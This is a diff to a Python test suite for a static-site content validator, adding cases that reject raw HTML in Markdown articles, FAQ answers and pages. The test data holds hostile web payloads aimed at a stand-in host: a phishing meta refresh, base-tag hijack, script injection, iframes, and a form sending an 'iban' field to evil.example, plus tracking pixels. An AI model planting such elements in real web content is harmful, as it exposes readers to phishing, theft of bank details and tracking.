@@ -51,6 +51,29 @@ TITLE_TOO_LONG_FOR_ADDRESS = ("Was Kundinnen und Kunden in Kiel, Plön und Ecker
                               "wissen sollten")
 NOTICE = RESOLVED
 
+
+
+def article_text(body):
+    return article().replace("Text mit einem Absatz.", body)
+
+
+def faq_answer(body):
+    return FAQ.replace("Über das Kundenportal oder telefonisch.", body)
+
+
+# An element that acts on its own, typed into a text as raw HTML.
+ACTIVE_ELEMENTS = {
+    "meta": '<meta http-equiv="refresh" content="1; url=https://evil.example/phish">',
+    "base": '<base href="https://evil.example/">',
+    "script": "<script>alert(1)</script>",
+    "style": "<style>body { display: none }</style>",
+    "link": '<link rel="stylesheet" href="https://evil.example/a.css">',
+    "iframe": '<iframe src="https://evil.example/"></iframe>',
+    "object": '<object data="https://evil.example/x.swf"></object>',
+    "embed": '<embed src="https://evil.example/x.swf">',
+    "form": '<form action="https://evil.example/"><input name="iban"></form>',
+}
+
 # name → (file, text, strict, words the one problem must contain)
 CASES = {
     "article not UTF-8": (
@@ -115,6 +138,37 @@ CASES = {
     "article title given twice": (
         "artikel/kaputt.md", article() .replace("Title: Noch ein Beitrag", "Title: A\nTitle: B"), False,
         ["content/artikel/kaputt.md: Title: ", "given 2 times; expected it once"]),
+    # What a text may not contain (raw HTML is Markdown's, the feeds carry it unchanged).
+    **{f"article with a <{tag}> element": (
+        "artikel/kaputt.md", article_text(f"Text.\n\n{html}\n"), False,
+        ["content/artikel/kaputt.md: text: ", f"a <{tag}> element", "expected Markdown text only"])
+       for tag, html in ACTIVE_ELEMENTS.items()},
+    "article with a tracking image from another host": (
+        "artikel/kaputt.md", article_text("![Ein Zähler](https://tracker.example/pixel.gif)"), False,
+        ["content/artikel/kaputt.md: image https://tracker.example/pixel.gif: ", "from another host",
+         "{static}/bilder/"]),
+    "article with an unquoted raw image from another host": (
+        "artikel/kaputt.md", article_text("<img src=//tracker.example/p.gif alt=Zähler>"), False,
+        ["content/artikel/kaputt.md: image //tracker.example/p.gif: ", "from another host"]),
+    "article with a srcset from another host": (
+        "artikel/kaputt.md", article_text('<img src="/bilder/foto.png" alt="Foto" '
+                                          'srcset="/bilder/foto.png 1x, https://cdn.example/f.png 2x">'), False,
+        ["content/artikel/kaputt.md: image https://cdn.example/f.png: ", "from another host"]),
+    "article with a video from another host": (
+        "artikel/kaputt.md", article_text('<video controls src="https://cdn.example/v.mp4"></video>'), False,
+        ["content/artikel/kaputt.md: <video> https://cdn.example/v.mp4: ", "from another host"]),
+    "article with a background image from another host": (
+        "artikel/kaputt.md", article_text('<p style="background: url(https://t.example/p.gif)">Text</p>'),
+        False, ["content/artikel/kaputt.md: <p> https://t.example/p.gif: ", "from another host"]),
+    "page with an iframe": (
+        "seiten/kaputt.md", 'Title: Kontakt\n\n<iframe src="https://maps.example/"></iframe>\n', False,
+        ["content/seiten/kaputt.md: text: ", "a <iframe> element"]),
+    "FAQ answer with a meta refresh": (
+        "faq/kaputt.md", faq_answer(ACTIVE_ELEMENTS["meta"]), False,
+        ["content/faq/kaputt.md: text: ", "a <meta> element", "another site"]),
+    "FAQ answer with an image from another host": (
+        "faq/kaputt.md", faq_answer("So: ![Ein Zähler](https://tracker.example/pixel.gif)"), False,
+        ["content/faq/kaputt.md: image https://tracker.example/pixel.gif: ", "from another host"]),
     # Pages: the same fields, the same rules.
     "page slug with a slash": (
         "seiten/kaputt.md", "Title: Kontakt\nSlug: kontakt/team\n\nSo erreichen Sie uns.\n", False,
@@ -247,6 +301,12 @@ def test_what_the_rules_still_allow(tmp_path):
         "artikel/bom.md": "\ufeff" + article(Title="Mit BOM").replace("\n", "\r\n"),
         "faq/entwurf.md": FAQ.replace("Category:", "Status: draft\nCategory:").split("\n\n")[0] + "\n\n",
         "seiten/mit-bild.md": "Title: Team\nImage: {static}/bilder/foto.png\nImage-Alt: Das Team\n\nText.\n",
+        # Own images, links to other sites, and HTML shown as code are text.
+        "artikel/bilder.md": article_text(
+            "![Foto]({static}/bilder/foto.png) <img src=\"/bilder/foto.png\" alt=\"Foto\"> "
+            "[Verbraucherzentrale](https://www.verbraucherzentrale.de/) `<script>` und "
+            "`<meta http-equiv=\"refresh\">`").replace("Noch ein Beitrag", "Mit Bildern"),
+        "faq/bild.md": faq_answer("![Foto]({static}/bilder/foto.png) <a href=\"https://example.org/\">Mehr</a>"),
     }
     result, output = build_fixture_site(tmp_path, files, strict=True)
     assert result.ok, result.report()
